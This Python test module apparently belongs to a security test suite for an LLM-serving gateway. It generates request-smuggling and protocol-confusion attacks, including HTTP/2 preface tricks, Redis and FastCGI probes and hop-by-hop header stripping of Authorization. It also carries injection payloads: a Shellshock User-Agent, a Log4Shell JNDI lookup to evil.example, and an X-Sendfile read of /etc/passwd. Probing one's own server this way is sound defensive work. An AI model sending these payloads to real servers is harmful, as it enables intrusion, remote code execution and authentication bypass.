"""Other protocols than HTTP/1.1, and headers that steer proxies."""

from __future__ import annotations

from collections.abc import Iterator

from tests.heavy.attacks.attack import Attack, answered, reflects, upgraded
from tests.heavy.attacks.wire import CHAT, ask, bearer, chat, request
from tests.heavy.attacks.words import Words

FAMILY = "protocols and headers"
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
_SETTINGS = bytes.fromhex("000000040000000000")
_GET = bytes.fromhex("000003010500000001828487")
"""HEADERS of stream 1: GET / over https."""
MARK = "evil.example"


def attacks(words: Words) -> Iterator[Attack]:
    key = bearer(words.scoped)
    for name, sent in _protocols(key).items():
        yield Attack(FAMILY, name, sent, upgraded)
    for protocol in ("h2", "h2c", "http/1.0", "http/0.9", "spdy/3.1", "acme-tls/1"):
        sent = PREFACE + _SETTINGS + _GET
        yield Attack(FAMILY, f"HTTP/2 as {protocol} in TLS", sent, upgraded, (protocol, "http/1.1"))
    rule = reflects(MARK, "x-rackwright-replica", "set-cookie")
    for name, text in _headers().items():
        yield Attack(FAMILY, f"{name}: {text!r}", ask(words.scoped, chat(), (name, text)), rule)
    for name in ("Authorization", "x-api-key", "api-key", "Host", "Content-Type", "X-Request-Id"):
        without = request("POST", CHAT, [("Connection", f"close, {name}"), (name, "x")], chat())
        yield Attack(FAMILY, f"Connection: {name}", without, answered)


def _protocols(key: tuple[str, str]) -> dict[str, bytes]:
    def switched(protocol: str, *more: tuple[str, str]) -> bytes:
        headers = [("Connection", f"Upgrade{', HTTP2-Settings' if protocol == 'h2c' else ''}"), ("Upgrade", protocol)]
        return request("GET", CHAT, [key, *headers, *more], close=False) + request("GET", CHAT)

    def version(text: str) -> bytes:
        return request("POST", CHAT, [key], chat(), version=text)

    return {
        "HTTP/2 by its preface": PREFACE + _SETTINGS + _GET,
        "HTTP/2 after a request": request("GET", CHAT, [key], close=False) + PREFACE + _SETTINGS + _GET,
        "half a preface": PREFACE[:18] + request("GET", CHAT, [key]),
        "a preface with a key": PREFACE.replace(b"\r\n\r\nSM", f"\r\n{key[0]}: {key[1]}\r\n\r\nSM".encode()),
        "h2c": switched("h2c", ("HTTP2-Settings", "AAMAAABkAAQAoAAAAAIAAAAA")),
        "websocket": switched(
            "websocket", ("Sec-WebSocket-Version", "13"), ("Sec-WebSocket-Key", "dGhlIHNhbXBsZSBub25jZQ==")
        ),
        "TLS in TLS": switched("TLS/1.3"),
        "an upgrade to HTTP/3": switched("h3"),
        "an upgrade to nothing": switched(""),
        "HTTP/0.9": b"GET /v1/models\r\n\r\n",
        "HTTP/0.9 with a version": request("GET", "/metrics", [key], version="HTTP/0.9"),
        "HTTP/1.2": version("HTTP/1.2").replace(b"/v1/chat", b"/metrics/v1/chat", 1),
        "HTTP/2.0": request("POST", CHAT, (), chat(), version="HTTP/2.0"),
        "HTTP/3": version("HTTP/3"),
        "HTTP/11": version("HTTP/11"),
        "http/1.1 in lower case": version("http/1.1"),
        "RTSP": version("RTSP/1.0"),
        "ICAP": version("ICAP/1.0"),
        "no version": version("").replace(b" \r\n", b"\r\n", 1),
        "SSH": b"SSH-2.0-OpenSSH_10.0\r\n" + b"\0" * 64,
        "SMTP": b"EHLO evil.example\r\nQUIT\r\n",
        "Redis": b"*1\r\n$7\r\nCONFIG\r\n",
        "HAProxy's own commands": b"show info;show sess\n",
        "FastCGI": b"\x01\x01\0\x01\0\x08\0\0\0\x01\0\0\0\0\0\0",
        "PROXY version 1": b"PROXY TCP4 127.0.0.1 127.0.0.1 1 443\r\n" + request("GET", CHAT, [key]),
        "PROXY version 2": bytes.fromhex("0d0a0d0a000d0a515549540a21110011 7f0000017f00000100010000e0000179")
        + request("GET", CHAT, [key]),
        "zeros": b"\0" * 4096,
    }


def _headers() -> dict[str, str]:
    """Return headers that some server heeds; the request is otherwise right, so it may be answered."""
    return {
        "X-Request-Id": MARK,
        "x-rackwright-replica": f"gpu1/other@1 {MARK}",
        "X-Rackwright-Key": f"whole {MARK}",
        "X-Rackwright-Digest": MARK,
        "X-Rackwright-Server": "gpu1/other@1",
        "X-Rackwright-Canary": "other",
        "X-Forwarded-Host": MARK,
        "X-Forwarded-For": MARK,
        "X-Forwarded-Proto": f"http://{MARK}",
        "X-Forwarded-Prefix": f"/{MARK}",
        "Forwarded": f"host={MARK};for=127.0.0.1",
        "X-Original-URL": f"/metrics?{MARK}",
        "X-Rewrite-URL": "/metrics",
        "X-Accel-Redirect": "/metrics",
        "X-Sendfile": "/etc/passwd",
        "X-HTTP-Method-Override": "GET",
        "Origin": f"https://{MARK}",
        "Referer": f"https://{MARK}",
        "Cookie": f"a={MARK}; SERVERID=other",
        "Via": f"1.1 {MARK}",
        "TE": "trailers, deflate",
        "Range": "bytes=0-0",
        "If-None-Match": "*",
        "Max-Forwards": "0",
        "Accept-Encoding": "gzip, br",
        "Accept": f"text/{MARK}",
        "Content-Encoding": "identity",
        "Alt-Svc": f'h2="{MARK}:443"',
        "Early-Data": "1",
        "Keep-Alive": "timeout=99999",
        "User-Agent": "() { :; }; echo " + MARK,
        "X-A": "${jndi:ldap://evil.example/a}",
        "Traceparent": f"00-{'a' * 32}-{'b' * 16}-01",
    }
